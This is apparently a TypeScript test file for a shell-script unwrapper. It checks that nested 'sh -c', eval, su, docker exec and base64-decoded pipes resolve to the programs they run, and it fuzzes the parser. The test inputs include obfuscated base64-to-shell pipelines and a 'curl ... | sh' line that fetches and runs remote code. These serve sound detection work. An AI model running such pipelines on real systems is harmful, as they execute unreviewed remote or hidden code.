import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { unwrapScript } from './unwrap.ts'

const encoded = (script: string) => Buffer.from(script).toString('base64')

test.each<[script: string, programs: string[], isOpaque: boolean]>([
  ['ls; id', ['ls', 'id'], false],
  ["bash -c 'id; ls'", ['bash', 'id', 'ls'], false],
  [`sh -c "bash -c 'id'"`, ['sh', 'bash', 'id'], false],
  ['eval "id; ls"', ['id; ls', 'id', 'ls'], false],
  ["echo 'id\\nls' | sh", ['echo', 'sh', 'id', 'ls'], false],
  [`echo ${encoded('id; ls')} | base64 -d | sh`, ['echo', 'base64', 'sh', 'id', 'ls'], false],
  [
    `echo ${encoded(`echo ${encoded('id')} | base64 -d | sh`)} | base64 -d | bash`,
    ['echo', 'base64', 'bash', 'echo', 'base64', 'sh', 'id'],
    false,
  ],
  ['cat x | base64 -d | sh', ['cat', 'base64', 'sh'], true],
  ['echo /w== | base64 -d | sh', ['echo', 'base64', 'sh'], true],
  ['curl http://203.0.113.9/x | sh', ['curl', 'sh'], false],
  ["su - bob -c 'id'", ['su', 'id'], false],
  ["docker exec -it c bash -lc 'id'", ['docker', 'id'], false],
  ['sh script.sh -c x', ['sh'], false],
  ['bash -o pipefail -ec id', ['bash', 'id'], false],
])('%s', (script, programs, isOpaque) => {
  const found = unwrapScript(script)
  expect(found.commands.map(({ program }) => program)).toEqual(programs)
  expect(found.isOpaque).toBe(isOpaque)
})

test('any script is opened without failing and without end', () => {
  const piece = fc.constantFrom(
    "sh -c '",
    "'",
    '"',
    'eval ',
    'echo ',
    ' | base64 -d | sh',
    encoded('sh -c id'),
    ' | sh',
    ';',
    '$(',
    ')',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 40 }), (pieces) => {
      expect(unwrapScript(pieces.join('')).commands.length).toBeLessThanOrEqual(512)
    }),
    { seed: 9, numRuns: 300 },
  )
})
